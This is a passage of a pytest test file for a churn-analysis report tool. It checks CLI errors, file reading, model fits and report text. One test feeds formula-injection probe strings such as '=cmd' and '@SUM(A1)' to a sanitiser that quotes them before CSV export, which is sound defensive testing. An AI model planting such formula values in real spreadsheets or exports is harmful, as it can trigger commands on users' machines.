          "--horizon", "0"], "--horizon=0 must be a positive whole number of periods."),
    ],
)  # fmt: skip
def test_bad_options_end_with_one_clear_message(args, message, tmp_path, capsys):
    out = tmp_path / "out"
    assert main(["report", str(TELCO_CSV), *args, "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("churnsurv report: error: ") and message in err
    assert "Traceback" not in err and not out.exists()


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (None, "missing.csv", "no such file"),
        (b"", "empty.csv", "the file is empty"),
        (b"\x89PNG\r\n\x1a\n\x00\x00garbage\xff\xfe", "binary.csv", "not UTF-8 text"),
        (b'a,b\n1,"unclosed\n', "broken.csv", "not a readable CSV file"),
        (b"not parquet at all", "data.parquet", "cannot read"),
    ],
)
def test_unreadable_files_end_with_one_clear_message(content, name, message, tmp_path, capsys):
    path = tmp_path / name
    if content is not None:
        path.write_bytes(content)
    out = str(tmp_path / "out")
    code = main(["report", str(path), "--duration", "t", "--event", "e", "--out", out])
    err = capsys.readouterr().err
    assert code == 2 and f"error: cannot read '{path}'" in err and message in err, err
    assert "Traceback" not in err


def test_file_and_dataset_are_exclusive(capsys):
    assert main(["report", "--out", "x"]) == 2
    assert main(["report", "a.csv", "--dataset", "telco", "--out", "x"]) == 2
    assert capsys.readouterr().err.count("give a customer file") == 2


def test_help_explains_every_option_with_an_example(capsys, monkeypatch):
    monkeypatch.setenv("COLUMNS", "2000")  # argparse wraps long option names at hyphens
    with pytest.raises(SystemExit) as exit_:
        main(["report", "--help"])
    assert exit_.value.code == 0
    text = " ".join(capsys.readouterr().out.split())  # argparse wraps lines
    options = [
        "--dataset", "--duration", "--event", "--event-value", "--id", "--start-date",
        "--end-date", "--cutoff", "--time-unit", "--by", "--formula", "--margin",
        "--reason", "--annual-discount-rate", "--horizon", "--within", "--top",
        "--min-cox-events", "--sep", "--max-excluded", "--date-format", "--bins",
        "--offer-cost", "--success-rate", "--n-boot", "--arm",
        "--arm-cost", "--arm-cost-per-period",
        "--seed", "--out",
    ]  # fmt: skip
    for option in options:
        assert f"Example: {option}" in text, option
    assert "churnsurv report --dataset telco --out report/" in text
    # what happens to --out, and every exit status (issue #12)
    assert "Only files the previous report wrote (listed in .churnsurv-report.json)" in text
    for status in ("0 the report is complete", "2 bad option, input or --out",
                   "3 completed with skipped sections", "130, 143 interrupted"):  # fmt: skip
        assert status in text, status


def test_unexpected_failure_in_the_notebook_is_one_message(tmp_path, monkeypatch, capsys):
    """A bug inside the notebook: exit 1, the cell and section named, no traceback dump."""
    import churnsurv.report.run as report

    broken = nbformat.read(template_path(), as_version=4)
    cells = [c for c in broken.cells if "parameters" in c.metadata.get("tags", [])]
    cells += [
        nbformat.v4.new_markdown_cell("## 9. Broken section", id="broken-md"),
        nbformat.v4.new_code_cell("raise RuntimeError('simulated bug')", id="broken"),
    ]
    broken.cells = cells
    nbformat.write(broken, tmp_path / "report.ipynb")
    monkeypatch.setattr(report, "template_path", lambda name="report.ipynb": (
        tmp_path / name if name.endswith(".ipynb") else template_path(name)))  # fmt: skip
    code = main(["report", "--dataset", "telco", "--out", str(tmp_path / "out"), "--quiet"])
    err = capsys.readouterr().err
    assert code == 1, err
    assert "cell 4 (section '9. Broken section'): RuntimeError: simulated bug" in err
    assert "Traceback" not in err and str(tmp_path / "out" / "report-failed.ipynb") in err
    assert not (tmp_path / "out" / "report.ipynb").exists()  # nothing half-made in its place


# --------------------------------------------------------------------------------------------
# small pieces
# --------------------------------------------------------------------------------------------
def test_read_table_csv_keeps_ids_as_text_and_reads_parquet(tmp_path):
    csv = tmp_path / "c.csv"
    csv.write_text("id,tenure,churn\n0042,3,1\n0043,5,0\n")
    assert read_table(csv, id_col="id")["id"].tolist() == ["0042", "0043"]
    pytest.importorskip("pyarrow")
    frame = read_table(csv, id_col="id")
    frame.to_parquet(tmp_path / "c.parquet")
    pd.testing.assert_frame_equal(read_table(tmp_path / "c.parquet"), frame)


def test_read_table_rejects_a_folder(tmp_path):
    with pytest.raises(DataValidationError, match="it is a folder"):
        read_table(tmp_path)


def test_event_value_from_the_command_line_takes_the_column_type():
    assert coerce_event_value(pd.Series([0, 1]), "1") == 1
    assert coerce_event_value(pd.Series([0.0, 1.0]), "1.5") == 1.5
    assert coerce_event_value(pd.Series([0, 1]), "yes") == "yes"
    assert coerce_event_value(pd.Series([True, False]), "False") is False
    assert coerce_event_value(pd.Series(["1", "0"]), "1") == "1"
    assert coerce_event_value(pd.Series(["a"], dtype="category"), "a") == "a"
    assert coerce_event_value(pd.Series([0, 1]), None) is None


def test_template_ships_with_a_parameters_cell():
    nb = nbformat.read(template_path(), as_version=4)
    tagged = [c for c in nb.cells if "parameters" in c.metadata.get("tags", [])]
    assert len(tagged) == 1
    assert template_path("report.html.j2").is_file()


def test_formula_columns_are_the_variables_the_cox_model_reads():
    formula = "C(Contract) + np.log(MonthlyCharges) + tenure:Partner"
    assert formula_columns(formula) == ["Contract", "MonthlyCharges", "Partner", "tenure"]
    assert formula_columns("`Monthly charges` + plan") == ["Monthly charges", "plan"]
    with pytest.raises(DataValidationError, match="could not be parsed") as bad:
        formula_columns("Contract +")
    assert "\x1b" not in str(bad.value) and "\n" not in str(bad.value)  # one plain line
    with pytest.raises(DataValidationError, match="give only the right-hand side"):
        formula_columns("Churn ~ Contract")


def test_sbg_periods_count_a_churn_in_its_period_and_completed_periods_for_the_active():
    tenure = [0.0, 0.4, 1.0, 2.5, 0.4, 2.5, 3.0]
    churned = [True, True, True, True, False, False, False]
    # churners: ceil(t), at least 1; active customers: floor(t) completed periods
    assert sbg_periods(tenure, churned).tolist() == [1, 1, 1, 3, 0, 2, 3]


def test_sbg_tail_gives_the_published_fit_and_survival_by_hand():
    """Fader & Hardie (2007) cohort with tenures in months, churners leaving mid-month."""
    n = np.array([1000, 631, 468, 382, 326, 289, 262, 241])
    lost = n[:-1] - n[1:]
    tenure = np.append(np.repeat(np.arange(1, 8) - 0.5, lost), np.full(241, 7.5))
    churned = np.arange(1000) < lost.sum()
    data = cs.prepare(pd.DataFrame({"t": tenure, "e": churned}), duration="t", event="e")
    model, tail = sbg_tail(data, horizon=12)
    # Fader & Hardie (2007), "regular" cohort: alpha = 0.704, beta = 1.182
    a, b = model.alpha_, model.beta_
    assert (round(a, 3), round(b, 3)) == (0.704, 1.182)
    # S(t) = prod_{i=1..t} (b + i - 1) / (a + b + i - 1); S(1) = b / (a + b)
    assert tail.name == "sBG" and tail.index.tolist() == list(range(0, 8 + 12 + 2))
    assert tail[0] == 1.0
    assert tail[1] == pytest.approx(b / (a + b), rel=1e-12)
    assert tail[3] == pytest.approx(
        b * (b + 1) * (b + 2) / ((a + b) * (a + b + 1) * (a + b + 2)), rel=1e-12
    )
    assert round(float(tail[1]), 3) == 0.627  # 631 of 1000 renewed, fitted


def test_read_input_reads_a_file_or_a_bundled_data_set(tmp_path):
    csv = tmp_path / "c.csv"
    csv.write_text("id,tenure,churn\n0042,3,1\n")
    frame, source, sha256 = read_input(csv, id_col="id")
    assert frame["id"].tolist() == ["0042"]
    assert source == "file c.csv, comma-separated text (detected)"
    assert sha256 == file_sha256(csv)
    frame, source, sha256 = read_input(None, "telco")
    assert frame.shape == (7043, 21) and source == "bundled data set 'telco'"
    assert sha256 == file_sha256(TELCO_CSV)


def test_template_uses_the_io_helpers_not_its_own_copies():
    cells = nbformat.read(template_path(), as_version=4).cells
    code = "\n".join(c.source for c in cells)
    python = "\n".join(c.source for c in cells if c.cell_type == "code")
    imported = {
        alias.name
        for node in ast.walk(ast.parse(python))
        if isinstance(node, ast.ImportFrom) and node.module == "churnsurv.report.io"
        for alias in node.names
    }
    assert {"bin_segments", "formula_columns", "read_input"} <= imported
    copies = ("hashlib", "read_csv", "read_parquet", "formulaic.Formula", "np.ceil", "np.floor")
    for copy in (*copies, ".to_csv("):  # every table is written by write_csv
        assert copy not in code, copy


def test_neutralise_formulas_quotes_text_only():
    from churnsurv.report.io import neutralise_formulas

    frame = pd.DataFrame(
        {
            "=cmd": ["-x", "@y", "\tz", "\rw", "+1", "ok"],
            "mixed": ["=a", -1.5, None, "b", 2, "-"],
            "hr": [-1.0, 0.5, -2.0, 1.0, 3.0, -0.1],
            "plan": pd.Categorical(["=p", "q", "=p", "q", "q", "q"]),
        },
        index=pd.Index(["+i", "j", "k", "l", "m", "n"], name="@id"),
    )
    out = neutralise_formulas(frame)
    assert list(out.columns) == ["'=cmd", "mixed", "hr", "plan"] and out.index.name == "'@id"
    assert out.index[0] == "'+i" and out.index[1] == "j"
    assert out["'=cmd"].tolist() == ["'-x", "'@y", "'\tz", "'\rw", "'+1", "ok"]
    assert out["mixed"].tolist()[:2] == ["'=a", -1.5] and out["mixed"].tolist()[3:] == [
        "b",
        2,
        "'-",
    ]
    assert out["hr"].dtype == float and out["hr"].tolist() == frame["hr"].tolist()  # numbers stay
    assert out["plan"].tolist()[:2] == ["'=p", "q"]
    assert frame.columns[0] == "=cmd"  # the input is not changed


def test_neutralise_formulas_is_the_cell_by_cell_rule():
    """The vectorised quoting equals _as_text applied to every cell and label (text, str
    subclasses, missing values, numbers in text columns, categoricals, an Arrow-backed index)."""
    from churnsurv.report.io import _as_text, neutralise_formulas

    class Label(str):
        pass

    cells = ["=1+1", "@SUM(A1)", "-x", "plain", np.nan, None, 3, "\tx", "\rq", "", "+"]
    cells += ["'=a", Label("=sub"), Label("ok")]
    labels = [str(v) for v in cells]
    for index in (
        pd.Index(labels, name="=id"),
        pd.Index(pd.array(labels, dtype=pd.StringDtype("pyarrow"))),
        pd.RangeIndex(len(cells)),
    ):
        frame = pd.DataFrame(
            {"a": cells, "b": pd.Categorical(labels), "n": np.arange(len(cells)) - 3.5},
            index=index,
        )
        expected = frame.copy()
        for col in ("a", "b"):
            expected[col] = frame[col].astype(object).map(_as_text)
        expected = expected.rename(index=_as_text, columns=_as_text)
        expected.index.names = [_as_text(n) for n in expected.index.names]
        got = neutralise_formulas(frame)
        pd.testing.assert_frame_equal(got, expected, check_index_type=False)
        assert list(got.index) == list(expected.index)


def _page_text(page: str) -> str:
    """The visible text of a report page (tags dropped, entities decoded, spaces collapsed)."""
    import html as html_module

    body = page[page.index("<body") :]
    return re.sub(r"\s+", " ", html_module.unescape(re.sub(r"<[^>]+>", " ", body)))


def test_telco_report_opens_with_a_briefing(telco):
    out, _ = telco
    page = (out / "report.html").read_text(encoding="utf-8")
    text = _page_text(page)
    # the findings block is filled in (display id) and sits between the title and section 1
    assert page.index('class="churnsurv-findings"') < page.index("1. The data")
    assert "appear here when the report has run" not in text and "DisplayHandle" not in text
    top = text[text.index("Key findings") : text.index("1. The data")]
    for title in (
        "How long customers stay.",
        "What drives churn.",
        "What customers are worth.",
        "Who to call first.",
    ):
        assert title in top
    # Telco numbers (KaplanMeier docstring: S(12) = 0.843; month-to-month 70.3% at 12 months)
    assert "84.3% (95% CI 83.4% to 85.2%) are still customers after 12 months" in top
    assert "70.3% (68.8% to 71.9%) of Month-to-month" in top
    # terms still fail after stratifying on Contract: no driver is named, and the reason is
    assert "No finding: after stratifying on Contract" in top and "MonthlyCharges" in top
    assert "--entry" in top  # the snapshot caveat
    calls = pd.read_csv(out / "tables" / "call_list.csv", dtype={"customerID": str})
    assert calls["customerID"].iloc[0] in top


def test_telco_cox_section_shows_its_remedy_schoenfeld_and_truncation_caveat(telco):
    out, _ = telco
    remedy = pd.read_csv(out / "tables" / "ph_remedy.csv").set_index("term")
    assert remedy.loc["Contract", "action"] == "stratified: own baseline per level"
    assert np.isnan(remedy.loc["Contract", "p after"])
    assert (remedy.loc[remedy["action"] != "none needed", "p before"] < 0.05).all()
    assert Path(out / "figures" / "cox_schoenfeld.png").is_file()
    assert (out / "tables" / "cox_summary_stratified.csv").is_file()
    text = _page_text((out / "report.html").read_text(encoding="utf-8"))
    assert "Left truncation: these data have no entry times" in text
    assert "--entry COLUMN" in text and "Still failing after the remedy" in text
    # tables for people: percentages and intervals, no 'strata none' column in the tests
    assert "5.40% (4.90% to 5.96%)" in text  # churn rate of month 1 (Wilson, prop_wilson.R)
    assert "strata none" not in text and " None " not in text
